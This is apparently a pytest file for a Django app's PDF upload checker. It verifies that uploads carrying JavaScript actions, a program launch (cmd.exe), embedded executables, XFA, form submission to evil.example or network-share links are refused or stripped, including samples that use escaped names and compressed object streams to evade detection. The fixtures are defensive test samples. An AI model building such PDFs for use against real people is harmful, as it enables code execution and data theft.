"""eppid.core.uploads: active content in a PDF (scripts, launch actions, embedded files, XFA,
form submission, links to network shares) refused with what it is, or stripped (issue 10 item 9;
docs/decisions/1220-upload-inspection.md). The file's kind, size, bombs and bounded parsing are in
tests/test_core_uploads.py.
"""

import io

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import translation
from pypdf import PdfReader
from tests import upload_bombs as bombs
from tests.upload_support import english, refusal

from eppid.core.upload_pdf import active_content_find
from eppid.core.uploads import upload_inspect
from eppid.disclosure.identity import document_check

# --- Active content -------------------------------------------------------------------------------

JS_ACTION = b"<< /S /JavaScript /JS (app.alert(1)) >>"
ACTIVE = {
    "open action runs JavaScript": (
        bombs.pdf_with(b"/OpenAction " + JS_ACTION + b" "),
        {"javascript", "automatic_action"},
    ),
    "document JavaScript name tree": (
        bombs.pdf_with(
            b"/Names << /JavaScript 4 0 R >> ", extra_objects=[b"<< /Names [(a) 5 0 R] >>", JS_ACTION]
        ),
        {"javascript"},
    ),
    "additional actions of a page": (
        bombs.pdf_with(page_extra=b"/AA << /O " + JS_ACTION + b" >> "),
        {"javascript", "automatic_action"},
    ),
    "a link that launches a program": (
        bombs.pdf_with(
            page_extra=b"/Annots [4 0 R] ",
            extra_objects=[
                b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (cmd.exe) >> >>"
            ],
        ),
        {"launch"},
    ),
    "embedded files name tree": (
        bombs.pdf_with(
            b"/Names << /EmbeddedFiles 4 0 R >> ",
            extra_objects=[
                b"<< /Names [(a.exe) 5 0 R] >>",
                b"<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>",
                b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream",
            ],
        ),
        {"embedded_file"},
    ),
    "file attachment annotation": (
        bombs.pdf_with(
            page_extra=b"/Annots [4 0 R] ",
            extra_objects=[
                b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS 5 0 R >>",
                b"<< /Type /Filespec /F (x.bin) /EF << /F 6 0 R >> >>",
                b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream",
            ],
        ),
        {"embedded_file"},
    ),
    "XFA form": (
        bombs.pdf_with(
            b"/AcroForm << /Fields [] /XFA 4 0 R >> ",
            extra_objects=[b"<< /Length 7 >>\nstream\n<xdp/>\n\nendstream"],
        ),
        {"xfa"},
    ),
    "form that submits data": (
        bombs.pdf_with(
            page_extra=b"/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A << /S /SubmitForm "
            b"/F << /FS /URL /F (https://evil.example/) >> >> >>] "
        ),
        {"form_submission"},
    ),
    "link to a file on a network share": (
        bombs.pdf_with(
            page_extra=b"/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A << /S /GoToR "
            b"/F (\\\\\\\\evil\\\\x.pdf) /D [0 /Fit] >> >>] "
        ),
        {"external_file"},
    ),
    "names spelled with escapes": (
        bombs.pdf_with(b"/OpenAction << /S /Java#53cript /J#53 (app.alert(1)) >> "),
        {"javascript", "automatic_action"},
    ),
    "JavaScript chained after a harmless go-to": (
        bombs.pdf_with(b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next " + JS_ACTION + b" >> "),
        {"javascript"},
    ),
    "JavaScript inside a compressed object stream": (
        bombs.pdf_object_stream(
            [b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>", bombs.PAGES, bombs.PAGE], [JS_ACTION]
        ),
        {"javascript", "automatic_action"},
    ),
    "an object nothing refers to": (bombs.pdf_with(extra_objects=[JS_ACTION]), {"javascript"}),
}


@pytest.mark.parametrize("name", list(ACTIVE))
def test_active_content_is_refused_with_what_it_is(name):
    """Failed before the fix for the identity upload: every one of these was accepted as it was."""
    content, kinds = ACTIVE[name]
    with pytest.raises(ValidationError) as caught:
        document_check(SimpleUploadedFile("ktp.pdf", content, content_type="application/pdf"))
    assert caught.value.code == "pdf_active_content"
    assert active_content_find(PdfReader(io.BytesIO(content))) == kinds


def test_the_refusal_names_the_active_content_in_both_languages():
    content = ACTIVE["a link that launches a program"][0]
    assert "an action that starts a program" in english(content)
    with translation.override("id"):
        message = refusal(content).messages[0]
    assert "konten aktif" in message and "menjalankan program" in message


@pytest.mark.parametrize(
    "extra",
    [
        b"/OpenAction [3 0 R /Fit] ",
        b"/OpenAction << /S /GoTo /D [3 0 R /Fit] >> ",
        b"/AA << >> ",
        b"/Names << /Dests 4 0 R >> ",
    ],
)
def test_harmless_navigation_is_accepted(extra):
    objects = [b"<< /Names [(start) [3 0 R /Fit]] >>"] if b"Dests" in extra else []
    content = bombs.pdf_with(extra, extra_objects=objects)
    assert upload_inspect(content).content == content


def test_a_web_link_is_accepted():
    link = b"/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://bawaslu.go.id/) >> >>] "
    assert upload_inspect(bombs.pdf_with(page_extra=link)).pages == 1


@pytest.mark.parametrize("name", list(ACTIVE))
def test_strip_mode_removes_active_content_and_the_result_reads_clean(name):
    content, kinds = ACTIVE[name]
    checked = upload_inspect(content, kinds=("pdf",), active_content="strip")
    assert checked.cleaned and set(checked.removed) == kinds
    assert checked.content != content and checked.pages == 1
    reread = PdfReader(io.BytesIO(checked.content), strict=True)
    assert active_content_find(reread) == set()
    assert upload_inspect(checked.content, active_content="refuse").content == checked.content


def test_strip_keeps_the_text_and_leaves_a_clean_file_untouched():
    clean = bombs.pdf_text("Akta pendirian")
    assert upload_inspect(clean, active_content="strip").content == clean
    dirty = bombs.pdf_text("Akta pendirian", b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >> ")
    checked = upload_inspect(dirty, active_content="strip")
    assert checked.removed == ("automatic_action", "javascript")
    assert "Akta pendirian" in PdfReader(io.BytesIO(checked.content)).pages[0].extract_text()
    assert b"JavaScript" not in checked.content and b"app.alert" not in checked.content
